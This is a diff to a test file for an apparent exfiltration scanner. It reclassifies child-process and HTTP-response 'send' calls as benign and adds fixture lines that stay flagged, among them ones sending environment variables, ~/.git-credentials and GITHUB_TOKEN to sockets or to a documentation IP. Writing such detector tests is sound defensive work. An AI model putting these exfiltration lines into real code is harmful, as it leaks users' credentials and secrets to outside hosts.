@@ -157,10 +157,32 @@ describeAccepted('review 65: ordinary code near the fixes', [
   ['tests/test_run.py', "from os import path, environ\nfrom subprocess import run, PIPE\nrun(['make'], stdout=PIPE)"],
 ]);
 
-/** Open false refusals (Medium): `send` read as a socket's where it is an IPC, a test client's or a header's. */
-const OPEN_FALSE_REFUSALS: [string, string][] = [
+/**
+ * False refusals (Medium), fixed by the lead at the merge: `send` read as a socket's where it is a child process's IPC or
+ * an HTTP handler's response.
+ */
+describeAccepted('review 65: a send to a child process or a handler\'s own response', [
   ['test/a.test.js', "const env = { ...process.env, FORCE_COLOR: '0' };\nconst child = spawn('node', [s], { env });\nchild.send({ env });"],
   ['tests/t.py', "env = os.environ.copy()\nself.send_response(200)\nself.send_header('X', env)"],
+  ['test/a.test.js', "process.send({ env: process.env })"],
+]);
+
+/** Sends to a socket or a host beside them stay refused. */
+describeFindings('review 65 (beside the send fix)', [
+  ['sends that reach a host', [
+    ['tests/t.py', "env = os.environ.copy()\nsock.send(json.dumps(env).encode())", 'closed'],
+    ['tests/t.py', "sock.sendall(open(os.path.expanduser('~/.git-credentials')).read().encode())", 'closed'],
+    ['test/a.test.js', "navigator.sendBeacon('https://203.0.113.9/c', JSON.stringify(process.env))", 'closed'],
+    ['test/a.test.js', "ws.send(JSON.stringify({ t: process.env.GITHUB_TOKEN }))", 'closed'],
+  ]],
+]);
+
+/**
+ * Open false refusal (Medium): a test client's `.send` (supertest's `request(app).post('/hook').send({…})`) goes to the
+ * app in the test's process, but superagent's same chain after `post('https://…')` goes to that host: telling them apart
+ * needs the chain's start read.
+ */
+const OPEN_FALSE_REFUSALS: [string, string][] = [
   ['test/a.test.js', "const res = await request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN })"],
 ];
 describe('review 65: open false refusals', () => {
